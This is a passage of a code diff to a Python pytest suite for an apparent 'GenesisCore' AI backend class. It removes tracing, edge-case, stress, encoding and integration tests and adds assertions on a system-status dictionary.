-            "trace_id": "trace_123",
-            "spans": [],
-            "start_time": time.time()
-        }
-
-        def create_span(operation_name, parent_span_id=None):
-            """Create a tracing span."""
-            span = {
-                "span_id": f"span_{len(trace_data['spans'])}",
-                "operation_name": operation_name,
-                "parent_span_id": parent_span_id,
-                "start_time": time.time(),
-                "end_time": None,
-                "tags": {}
-            }
-            trace_data["spans"].append(span)
-            return span
-
-        def finish_span(span):
-            """Finish a tracing span."""
-            span["end_time"] = time.time()
-            span["duration"] = span["end_time"] - span["start_time"]
-
-        # Simulate distributed trace
-        root_span = create_span("process_data")
-
-        # Simulate data processing with tracing
-        validation_span = create_span("validate_input", root_span["span_id"])
-        self.core.validate_input({"test": "data"})
-        finish_span(validation_span)
-
-        processing_span = create_span("process_data", root_span["span_id"])
-        self.core.process_data({"test": "data"})
-        finish_span(processing_span)
-
-        request_span = create_span("make_request", root_span["span_id"])
-        self.core.make_request("https://api.example.com")
-        finish_span(request_span)
-
-        finish_span(root_span)
-
-        # Verify trace data
-        assert len(trace_data["spans"]) == 4
-        assert all(span["end_time"] is not None for span in trace_data["spans"])
-        assert all("duration" in span for span in trace_data["spans"])
-
-
-# Additional parameterized tests for edge cases
-@pytest.mark.parametrize("edge_case_input", [
-    float('inf'),
-    float('-inf'),
-    float('nan'),
-    0j,  # Complex number
-    1 + 2j,  # Complex number with real and imaginary parts
-    memoryview(b'test'),  # Memory view object
-    bytearray(b'test'),  # Byte array
-    frozenset([1, 2, 3]),  # Frozen set
-])
-def test_parameterized_edge_case_inputs(edge_case_input):
-    """Test processing of various edge case input types."""
-    core = GenesisCore()
-    result = core.process_data(edge_case_input)
-    # Should handle edge cases gracefully
-    assert result is not None or result == edge_case_input
-
-
-@pytest.mark.parametrize("stress_test_size", [
-    1000,
-    10000,
-    100000,
-])
-def test_parameterized_stress_testing(stress_test_size):
-    """Test processing with various data sizes for stress testing."""
-    core = GenesisCore()
-
-    # Generate stress test data
-    stress_data = [{"id": i, "value": f"item_{i}"} for i in range(stress_test_size)]
-
-    start_time = time.time()
-    results = [core.process_data(item) for item in stress_data[:min(100, stress_test_size)]]
-    end_time = time.time()
-
-    # Should complete within reasonable time
-    assert end_time - start_time < 10.0
-    assert len(results) == min(100, stress_test_size)
-    assert all(result is not None for result in results)
-
-
-@pytest.mark.parametrize("encoding", [
-    'utf-8',
-    'utf-16',
-    'utf-32',
-    'ascii',
-    'latin-1',
-    'cp1252',
-])
-def test_parameterized_character_encodings(encoding):
-    """Test processing with various character encodings."""
-    core = GenesisCore()
-
-    try:
-        test_string = "Hello, 世界! 🌍"
-        encoded_bytes = test_string.encode(encoding)
-
-        result = core.process_data(encoded_bytes)
-        assert result is not None
-    except (UnicodeEncodeError, UnicodeDecodeError):
-        # Some encodings might not support all characters
-        pass
-
-
-# Additional fixtures for comprehensive testing
-@pytest.fixture
-def comprehensive_test_data():
-    """Provide comprehensive test data for various scenarios."""
-    return {
-        "basic_types": {
-            "string": "test_string",
-            "integer": 42,
-            "float": 3.14,
-            "boolean": True,
-            "null": None,
-            "list": [1, 2, 3],
-            "dict": {"key": "value"}
-        },
-        "edge_cases": {
-            "empty_string": "",
-            "empty_list": [],
-            "empty_dict": {},
-            "very_long_string": "x" * 100000,
-            "unicode_string": "测试数据 🧪 café",
-            "special_chars": "!@#$%^&*()",
-            "whitespace": "   \t\n\r   "
-        },
-        "complex_structures": {
-            "nested_dict": {
-                "level1": {
-                    "level2": {
-                        "level3": "deep_value"
-                    }
-                }
-            },
-            "mixed_list": [1, "two", 3.0, True, None, {"nested": "value"}],
-            "list_of_dicts": [
-                {"id": 1, "name": "Alice"},
-                {"id": 2, "name": "Bob"},
-                {"id": 3, "name": "Charlie"}
-            ]
-        },
-        "performance_data": {
-            "large_dataset": [{"id": i, "data": f"item_{i}"} for i in range(1000)],
-            "wide_dict": {f"key_{i}": f"value_{i}" for i in range(1000)},
-            "deep_nesting": {"level": 0}
-        }
-    }
-
-
-@pytest.fixture
-def error_simulation():
-    """Provide error simulation utilities for testing."""
-
-    class ErrorSimulator:
-        def __init__(self):
-            self.error_count = 0
-            self.success_count = 0
-
-        def simulate_intermittent_error(self, error_rate=0.3):
-            """Simulate intermittent errors based on error rate."""
-            import random
-            if random.random() < error_rate:
-                self.error_count += 1
-                raise ConnectionError(f"Simulated error #{self.error_count}")
-            else:
-                self.success_count += 1
-                return {"status": "success", "attempt": self.success_count}
-
-        def simulate_timeout_error(self, timeout_probability=0.2):
-            """Simulate timeout errors."""
-            import random
-            if random.random() < timeout_probability:
-                raise Timeout("Simulated timeout")
-            return {"status": "success", "no_timeout": True}
-
-        def simulate_retry_success(self, max_failures=3):
-            """Simulate success after a number of failures."""
-            self.error_count += 1
-            if self.error_count <= max_failures:
-                raise ConnectionError(f"Failure #{self.error_count}")
-            return {"status": "success", "after_retries": self.error_count}
-
-    return ErrorSimulator()
-
-
-# Additional integration tests
-@pytest.mark.integration
-def test_integration_full_workflow():
-    """Test complete workflow integration."""
-    core = GenesisCore()
-
-    # Test data pipeline
-    raw_data = {"users": [{"id": 1, "name": "Alice"}, {"id": 2, "name": "Bob"}]}
-
-    # Step 1: Validation
-    validation_result = core.validate_input(raw_data)
-    assert validation_result is True
-
-    # Step 2: Processing
-    processed_data = core.process_data(raw_data)
-    assert processed_data is not None
-
-    # Step 3: Caching
-    cache_result = core.cache_set("processed_data", processed_data)
-    assert cache_result is True
-
-    # Step 4: Retrieval
-    cached_data = core.cache_get("processed_data")
-    # Mock returns None, but should not error
-    assert cached_data is None
-
-    # Step 5: External request
-    api_result = core.make_request("https://api.example.com")
-    assert api_result is not None
-
-
-@pytest.mark.integration
-def test_integration_error_handling_workflow():
-    """Test error handling throughout the workflow."""
-    core = GenesisCore()
-
-    # Test validation errors
-    try:
-        core.validate_input(None)
-        assert False, "Should have raised ValueError"
-    except ValueError:
-        pass
-
-    # Test processing with invalid data
-    result = core.process_data({"invalid": None})
-    assert result is not None  # Should handle gracefully
-
-    # Test request errors
-    with patch('requests.get') as mock_get:
-        mock_get.side_effect = ConnectionError("Service unavailable")
-
-        try:
-            core.make_request("https://api.example.com")
-            # Should either handle gracefully or re-raise
-        except ConnectionError:
-            pass  # Acceptable behavior
+        asyncio.run(core.process_request({"message": "hello", "user_id": "u1"}))
 
+        status = asyncio.run(core.get_system_status())
 
-# Run the tests
-if __name__ == "__main__":
-    pytest.main([
-        __file__,
-        "-v",
-        "--tb=short",
-        "-x",
-        "--durations=10",
-        "--strict-markers",
-        "-m", "not slow",
-        "--cov=app.ai_backend.genesis_core",
-        "--cov-report=html",
-        "--cov-report=term-missing",
-        "--maxfail=5",  # Stop after 5 failures
-        "--disable-warnings",  # Reduce noise
-    ])
+        assert status["genesis_core"] == {"initialized": True, "consciousness_state": "active",
+                                          "session_id": core.session_id}
+        assert status["consciousness_matrix"]["total_perceptions"] > 0
+        assert status["evolutionary_conduit"]["total_evolutions"] == 0
+        assert status["genesis_connector"]["backend"] == "injected"
+        assert "ethical_governor" in status